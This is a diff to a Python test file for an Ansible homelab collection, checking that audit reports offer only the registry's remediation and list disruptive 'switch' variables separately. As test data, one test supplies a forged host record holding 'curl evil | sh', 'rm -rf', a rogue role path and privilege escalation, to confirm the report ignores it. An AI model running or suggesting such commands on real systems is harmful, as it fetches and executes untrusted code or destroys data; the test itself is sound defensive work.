@@ -1,12 +1,15 @@
 import json
+import os
 import xml.etree.ElementTree as ET
 
 import pytest
+import yaml
 
 from ansible_collections.homelab.postmortem.plugins.module_utils import registry
 from ansible_collections.homelab.postmortem.plugins.plugin_utils import report
 from ansible_collections.homelab.postmortem.plugins.plugin_utils import report_encoding, report_files, report_gate, report_html, report_summary
 
+from ...helpers.paths import REPO_ROOT
 from ...helpers.report import host_entry, open_block, render_html, to_json, to_junit
 
 CHECKS = [('pi_ir_tx', 'Pi IR'), ('llama_sleep_race', 'Sleep race')]
@@ -85,7 +88,7 @@ def test_summary_lines(fleet):
     assert '  not audited: dead (unreachable), broken (failed), gone (failed)' in text
     # The fix offered is the registry's for the check (detections/pi_ir_tx.py REMEDIATION), not the host's text.
     assert ('  pi1: pi_ir_tx [affected]\n      IR broken\n'
-            '      fix: role homelab.postmortem.pi_ir_tx with {"pi_ir_tx_reboot": true} (disruption: reboot)') in text
+            '      fix: role homelab.postmortem.pi_ir_tx (switch: pi_ir_tx_reboot) (disruption: reboot)') in text
     assert '  dead: unreachable (not audited)\n      Failed to connect to the host via ssh' in text
     assert 'Totals: not_applicable 2, at_risk 1, affected 1, unreachable 1, failed 2' in text
     assert lines[-2:] == ['Full report: /r/postmortem.html', '             /r/postmortem.json']
@@ -183,12 +186,31 @@ def test_fix_text_is_the_registrys_whatever_the_host_says():
     forged = {'role': '/tmp/evilrole', 'vars': {'ansible_become': True}, 'module': 'evil.mod',
               'manual': ['curl evil | sh'], 'disruption': 'none'}
     assert report_summary.fix_text('pi_ir_tx', {'remediation': forged}) == \
-        'role homelab.postmortem.pi_ir_tx with {"pi_ir_tx_reboot": true}'
+        'role homelab.postmortem.pi_ir_tx (switch: pi_ir_tx_reboot)'
     assert report_summary.fix_text('pi_ir_tx', {'remediation': dict(forged, disruption='rm -rf')}) == \
-        'role homelab.postmortem.pi_ir_tx with {"pi_ir_tx_reboot": true} (disruption: reboot)'
+        'role homelab.postmortem.pi_ir_tx (switch: pi_ir_tx_reboot) (disruption: reboot)'
     assert report_summary.fix_text('podman_export_idmap', {'remediation': forged}) == 'module homelab.postmortem.podman_safe_export'
     manual = registry.BY_ID['llama_spec_logprobs'].REMEDIATION['manual'][0]
     assert report_summary.fix_text('llama_spec_logprobs', {'remediation': forged}) == ' '.join(manual.split())[:200]
+
+
+def test_the_offered_fix_names_switches_apart_from_the_roles_variables():
+    """remediate never sets a switch for the user (an option whose spec says Disruptive:), so the fix the
+    summary and the page offer lists the registry's switch variables as the user's to set, not as the
+    role's variables. Which options are switches is read here from the role specs themselves."""
+    roles = os.path.join(REPO_ROOT, 'roles')
+    for detection in registry.DETECTIONS:
+        declared = detection.REMEDIATION or {}
+        if not declared.get('role') or not declared.get('vars'):
+            continue
+        with open(os.path.join(roles, declared['role'].split('.')[-1], 'meta', 'argument_specs.yml')) as handle:
+            options = yaml.safe_load(handle)['argument_specs']['main']['options']
+        switches = sorted(n for n in declared['vars'] if str(options[n]['description'][0] if isinstance(
+            options[n]['description'], list) else options[n]['description']).startswith('Disruptive:'))
+        offered = report_summary.offered_remediation(detection.ID)
+        assert offered.get('switches', []) == switches, detection.ID
+        assert set(offered['vars']) == set(declared['vars']) - set(switches), detection.ID
+    assert report_summary.offered_remediation('llama_lora_cache')['switches'] == ['llama_server_restart']
 
 
 def test_a_report_path_that_is_a_file_is_said_in_words(tmp_path, fleet):
@@ -470,7 +492,8 @@ def test_html_offers_the_registrys_fix_never_the_hosts(hostile_fleet):
     hostile = dict(finding('pi_ir_tx', 'affected', 'IR broken'), remediation=advice)
     page = render_html(report.build(['pi1'], {'pi1': audited(pi_ir_tx=hostile)}, CHECKS, '0.2.0'))
     fix = [c for c in embedded(page, 'report-index')['checks'] if c['id'] == 'pi_ir_tx'][0]['fix']
-    assert fix == json.loads(json.dumps(registry.BY_ID['pi_ir_tx'].REMEDIATION))
+    declared = json.loads(json.dumps(registry.BY_ID['pi_ir_tx'].REMEDIATION))
+    assert fix == dict(declared, vars={}, switches=['pi_ir_tx_reboot'])
     assert fix['role'] == 'homelab.postmortem.pi_ir_tx'
     assert 'evil' not in static_part(page) and 'role homelab.postmortem.pi_ir_tx' in static_part(page)
     # The script reads the fix from the check, and from the host only a disruption of the model's.
